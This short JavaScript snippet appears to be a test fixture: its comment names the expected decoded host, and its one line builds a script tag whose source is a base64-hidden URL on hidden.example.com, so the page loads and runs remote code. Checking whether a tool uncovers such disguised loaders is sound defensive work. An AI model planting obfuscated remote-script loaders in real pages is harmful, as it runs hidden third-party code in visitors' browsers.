// An address in base64.
// expects: hidden.example.com
var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9oaWRkZW4uZXhhbXBsZS5jb20vYS5qcw==');document.head.appendChild(s);
